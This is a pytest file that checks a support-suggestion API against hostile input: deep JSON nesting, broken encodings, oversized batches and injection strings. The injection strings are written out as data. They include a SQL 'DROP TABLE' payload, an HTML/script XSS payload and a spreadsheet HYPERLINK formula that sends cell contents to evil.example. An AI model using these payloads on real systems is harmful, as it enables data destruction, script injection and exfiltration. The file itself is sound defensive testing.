"""Hostile input on every public surface: broken encodings, deep nesting, injection strings, unknown ids.

Each answer is a 4xx with the machine-readable {error, message} body, nothing half-stored, and the
service keeps answering; injection strings are stored and reported as the inert text they are.
"""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, func
from sqlmodel import Session, select

from app.db.models import Event, SuggestionSet

JSON = {"content-type": "application/json"}
SQL_INJECTION = "'; DROP TABLE suggestion_set; -- OR 1=1"
HTML_INJECTION = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
FORMULA_INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"help")'


def _stored_sets(engine: Engine) -> int:
    with Session(engine) as session:
        return session.exec(select(func.count()).select_from(SuggestionSet)).one()


def _stored_events(engine: Engine) -> int:
    with Session(engine) as session:
        return session.exec(select(func.count()).select_from(Event)).one()


def _nested(depth: int) -> bytes:
    return b'{"text": "x", "extra": ' + b"[" * depth + b"]" * depth + b"}"


@pytest.mark.parametrize("path", ["/v1/suggest", "/v1/events"])
@pytest.mark.parametrize("depth", [64, 20_000])
def test_deeply_nested_json_is_a_clear_4xx_and_stores_nothing(
    client: TestClient, engine: Engine, path: str, depth: int
) -> None:
    response = client.post(path, content=_nested(depth), headers=JSON)
    assert response.status_code in {400, 422}
    assert response.json()["error"] in {"bad_request", "invalid_request"}
    assert _stored_sets(engine) == 0 and _stored_events(engine) == 0
    assert client.post("/v1/suggest", json={"text": "パスワードを忘れた"}).status_code == 200


@pytest.mark.parametrize("query", ["%FF%FEpassword", "pass%ED%A0%80word", "pass%00word"])
def test_a_query_string_that_is_not_clean_utf8_is_422(client: TestClient, engine: Engine, query: str) -> None:
    response = client.get(f"/v1/suggest?q={query}")
    assert response.status_code == 422
    assert response.json()["error"] == "invalid_query"
    assert _stored_sets(engine) == 0


def test_a_lone_surrogate_in_json_is_422(client: TestClient, engine: Engine) -> None:
    response = client.post("/v1/suggest", content=b'{"text": "pass \\ud800 word"}', headers=JSON)
    assert response.status_code == 422
    assert _stored_sets(engine) == 0


@pytest.mark.parametrize(
    "url",
    [
        "/v1/reports/deflection?from=2026-13-01",
        "/v1/reports/deflection?group_by=day;DROP%20TABLE%20event",
        "/v1/reports/gaps?from=x'%20OR%201=1",
        "/v1/reports/questions?limit=-1",
    ],
)
def test_bad_report_parameters_are_422(client: TestClient, url: str) -> None:
    response = client.get(url)
    assert response.status_code == 422
    assert response.json()["error"] == "invalid_request"


def test_an_injected_query_id_is_an_unknown_id(client: TestClient, engine: Engine) -> None:
    event = {"query_id": "x' OR '1'='1", "client_id": "c", "action": "click"}
    response = client.post("/v1/events", json=event)
    assert response.status_code == 404
    assert response.json()["error"] == "unknown_query"
    assert _stored_events(engine) == 0


def test_injection_strings_are_stored_and_reported_as_inert_text(client: TestClient, engine: Engine) -> None:
    hostile = [SQL_INJECTION, HTML_INJECTION, FORMULA_INJECTION]
    for text in hostile:
        for _ in range(2):  # twice, so the gap report makes a topic of each
            answer = client.post("/v1/suggest", json={"text": text, "channel": "form"}).json()
            assert answer["label"] == "no_answer"
            ticket = {"query_id": answer["query_id"], "client_id": "c", "action": "ticket_submitted"}
            assert client.post("/v1/events", json=ticket).status_code == 200
    assert _stored_sets(engine) == 6  # the table is still there, holding every set

    questions = client.get("/v1/reports/questions").json()["questions"]
    assert sorted(q["text"] for q in questions) == sorted(hostile)  # verbatim, not executed or mangled

    for report in ["/v1/reports/questions", "/v1/reports/gaps"]:
        exported = client.get(report, params={"format": "csv"}).text
        cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
        # A spreadsheet must not run customer text: a cell that would start a formula is quoted.
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), report
        assert any(FORMULA_INJECTION in cell for cell in cells), report


@pytest.mark.parametrize("batch_size", [0, 501])
def test_an_empty_or_oversized_event_batch_is_422(client: TestClient, engine: Engine, batch_size: int) -> None:
    event = {"query_id": "q", "client_id": "c", "action": "impression"}
    response = client.post("/v1/events", json=[event] * batch_size)
    assert response.status_code in {413, 422}
    assert response.json()["error"] in {"invalid_request", "body_too_large"}
    assert _stored_events(engine) == 0
